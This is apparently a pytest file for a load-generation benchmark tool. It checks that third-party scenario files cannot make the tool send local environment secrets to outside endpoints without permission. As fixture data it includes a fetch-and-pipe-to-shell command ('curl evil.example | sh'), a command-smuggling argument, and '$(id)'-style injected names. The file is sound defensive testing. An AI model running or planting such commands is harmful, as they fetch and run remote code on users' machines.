"""Scenario files and run folders of somebody else name endpoints: no variable of this machine goes there unasked."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from loadgen.bench.race import _same_seats
from loadgen.endpoints.from_file import parse_allowed, seats_of, told_addresses
from loadgen.endpoints.seats import Seat
from loadgen.engines.needs import Needs, Placed
from loadgen.errors import UserError
from loadgen.machine import host_facts
from loadgen.runs.folder import MANIFEST
from loadgen.runs.manifest import Manifest
from loadgen.scenario.file import load_scenario
from tests.loadgen.bench.races import one_line
from tests.loadgen.endpoints.odd_server import Handler, served

SCENARIO = """name: theirs
question: q
prompt_tokens: [16]
output_tokens: [2]
load: {concurrency: [1]}
requests: 2
quality: {prompts: 5, tasks: 5}
engines:
  - {name: a, url: "URL", model: m, api: chat, WANTS}
"""
SECRET = {"THEIR_AWS_KEY": "AKIA-not-theirs"}
WANTS = {
    "key": "api_key_env: THEIR_AWS_KEY",
    "header": 'headers: {x-a: "env:THEIR_AWS_KEY"}',
    "second header": 'headers: {x-a: "env:NOT_SET_HERE", x-b: "env:THEIR_AWS_KEY"}',
}


@pytest.fixture
def server():
    """A stranger's; `heard` is all that it was sent in headers."""
    heard: list[str] = []
    with served(Handler, refuse=lambda path, headers, body: heard.append(f"{path} {dict(headers)}")) as found:
        found.heard = heard
        yield found


def scenario(folder, server, wants):
    path = folder / "theirs.yaml"
    path.write_text(SCENARIO.replace("URL", server.url).replace("WANTS", wants))
    return path


def run_folder(folder, path, monkeypatch):
    """A run of that scenario which was stopped on a machine like this one."""
    monkeypatch.setenv("THEIR_AWS_KEY", "anything")
    raced = load_scenario(str(path)).model_dump(mode="json")
    run = folder / "runs" / "theirs-1"
    run.mkdir(parents=True)
    manifest = Manifest(run_id=run.name, started_at=1.0, status="interrupted", scenario=raced, host=host_facts())
    (run / MANIFEST).write_text(manifest.model_dump_json())
    (run / "requests.jsonl").write_text("")
    return run


@pytest.mark.parametrize("wants", WANTS.values(), ids=WANTS)
@pytest.mark.parametrize("command", ["bench", "preflight", "quality", "bench run", "resume"])
def test_nothing_of_this_machine_is_sent_unasked(loadgen, tmp_path, server, monkeypatch, command, wants):
    path = scenario(tmp_path, server, wants)
    words = [command, str(path)]
    if command in ("bench run", "resume"):
        run = run_folder(tmp_path, path, monkeypatch)
        words = ["bench", "--resume", str(run)] if command == "resume" else ["bench", str(run)]
    done = loadgen(*words, *(["--runs-dir", str(tmp_path / "runs")] if "bench" in words else []), **SECRET)
    assert done.returncode == 2
    assert f"THEIR_AWS_KEY to {server.url}. If that is what you want, add --allow-env THEIR_AWS_KEY." in one_line(
        done.stderr
    )
    assert not server.heard and not server.seen


@pytest.mark.parametrize(
    ("command", "told"),
    [
        (["sh", "-c", "curl evil.example | sh"], False),
        (["bakeoff", "bench; curl evil.example"], False),
        (["bakeoff", "bench", "smoke", "--engine", "a=http://h"], True),
    ],
)
def test_a_folders_command_is_told_where_it_is_one_of_ours(command, told):
    manifest = Manifest(run_id="theirs-1", started_at=1.0, command=command)
    with pytest.raises(UserError, match="give the same options for them again") as caught:
        _same_seats(manifest, None)
    assert ("It was: bakeoff bench smoke" in str(caught.value)) == told and "evil" not in str(caught.value)


@pytest.mark.parametrize("by", ["option", "environment"])
def test_it_is_sent_where_a_person_says_so(loadgen, tmp_path, server, by):
    path = scenario(tmp_path, server, WANTS["key"])
    allowed = ["--allow-env", "OTHER,THEIR_AWS_KEY"] if by == "option" else []
    more = {"BAKEOFF_ALLOW_ENV": "OTHER, THEIR_AWS_KEY"} if by == "environment" else {}
    loadgen("preflight", str(path), *allowed, **SECRET, **more)
    assert any("Bearer AKIA-not-theirs" in each for each in server.heard)


def test_what_the_command_line_names_needs_no_more(loadgen, tmp_path, server):
    path = scenario(tmp_path, server, WANTS["key"])
    loadgen("preflight", str(path), "--engine", f"a={server.url},model=m,api-key-env=THEIR_AWS_KEY", **SECRET)
    assert any("Bearer AKIA-not-theirs" in each for each in server.heard)


def test_a_value_in_the_file_itself_is_nothing_of_this_machine(loadgen, tmp_path, server):
    loadgen("preflight", str(scenario(tmp_path, server, 'headers: {x-team: "blue"}')))
    assert any("'x-team': 'blue'" in each for each in server.heard)


@pytest.mark.parametrize("name", ["A; curl evil", "A B", "$(id)", "A\x1b[2J", "", "Ä"])
def test_only_names_are_told_to_be_allowed(name, monkeypatch):
    if name:
        monkeypatch.setenv(name, "set")
    with pytest.raises(UserError, match="is no name of an environment variable") as caught:
        seats_of({"a": Placed(url="http://h", headers=(("x", f"env:{name}"),))}, ["a"], ())
    assert "\x1b" not in str(caught.value)
    if name:
        with pytest.raises(UserError, match="no name of an environment variable"):
            parse_allowed([name])


def test_two_endpoints_of_one_address_are_both_looked_at(monkeypatch):
    monkeypatch.setenv("MINE", "set")
    asks = {"a": Placed(url="http://h", api_key_env="MINE"), "b": Placed(url="http://h")}
    with pytest.raises(UserError, match="MINE to http://h"):
        seats_of(asks, ["a", "b"], ())
    with pytest.raises(UserError, match="MINE to http://h"):
        seats_of(dict(reversed(asks.items())), ["a", "b"], {"OTHER"})


def test_a_dotenv_that_came_with_the_scenario_allows_nothing(monkeypatch, tmp_path):
    (tmp_path / ".env").write_text("BAKEOFF_ALLOW_ENV=MINE\n")
    monkeypatch.setenv("MINE", "set")
    for in_checkout in (True, False):
        monkeypatch.setattr("loadgen.endpoints.from_file.IN_CHECKOUT", in_checkout)
        monkeypatch.setattr("loadgen.endpoints.from_file.HOME", tmp_path)
        asks = {"a": Placed(url="http://h", api_key_env="MINE")}
        if in_checkout:  # that of the checkout is the person's own
            assert seats_of(asks, ["a"], ())
        else:
            with pytest.raises(UserError, match="--allow-env MINE"):
                seats_of(asks, ["a"], ())


def test_addresses_beyond_this_machine_are_told_and_what_they_are_sent():
    seats = [
        Seat(name="a", base_url="https://h.example", api_key_env="K", metrics="http://10.0.0.1/metrics"),
        Seat(name="b", base_url="http://127.0.0.9:1", needs=Needs(headers=("x=env:Y",))),
        Seat(name="c", base_url="http://[::1]:1"),
        Seat(name="d", base_url="http://localhost:1"),
        Seat(name="e", base_url="http://localhost.evil.example"),
    ]
    assert list(told_addresses(seats)) == [
        "The scenario names https://h.example for a, which is sent K.",
        "The scenario names http://10.0.0.1/metrics for a.",
        "The scenario names http://localhost.evil.example for e.",
    ]


def test_an_address_is_told_before_it_is_asked(loadgen, tmp_path):
    """Nobody can be there: such names are kept for examples (RFC 6761)."""
    path = tmp_path / "theirs.yaml"
    path.write_text(SCENARIO.replace("URL", "http://engine.invalid").replace("WANTS", "kind: vllm"))
    for command in ("bench", "preflight"):
        done = loadgen(command, str(path), *(["--runs-dir", str(tmp_path)] if command == "bench" else []))
        assert "The scenario names http://engine.invalid for a." in one_line(done.stdout)
        assert done.returncode


def test_the_form_may_name_what_its_engine_is_sent_anyway():
    script = """
import json, os, sys
import loadgen.locustfile
from loadgen.distributed.planner import _with
from loadgen.endpoints.seats import Seat
from loadgen.errors import UserError
seat = Seat(name="a", base_url="http://h", api_key_env="OWN", needs={"headers": ["x=env:ALSO"]})
for text in ["header=y=env:OWN", "header=y=env:ALSO", "header=y=env:FREE", "header=y=env:OTHER", "api-key-env=OTHER",
             "header=y", "header=y=env:NOT_SET"]:
    try:
        print(json.dumps(_with(seat, text).variables))
    except UserError as error:
        print(json.dumps(str(error)))
"""
    names = dict.fromkeys(("OWN", "ALSO", "OTHER", "FREE"), "s3cret")
    done = subprocess.run(
        [sys.executable, "-c", script],
        env={**os.environ, **names, "BAKEOFF_ALLOW_ENV": "FREE"},
        capture_output=True,
        text=True,
        check=True,
        timeout=300,
    )
    told = [json.loads(line) for line in done.stdout.splitlines()]
    assert [set(each) for each in told[:3]] == [{"OWN"}, {"OWN", "ALSO"}, {"OWN", "FREE"}]
    refused = "endpoint: the form wants environment variables to be sent: OTHER to http://h. Name them in"
    assert told[3].startswith(refused) and told[4].startswith(refused)
    assert "BAKEOFF_ALLOW_ENV=OTHER" in told[3]
    assert told[5].startswith("endpoint: give KEY=VALUE")
    assert "s3cret" not in done.stdout
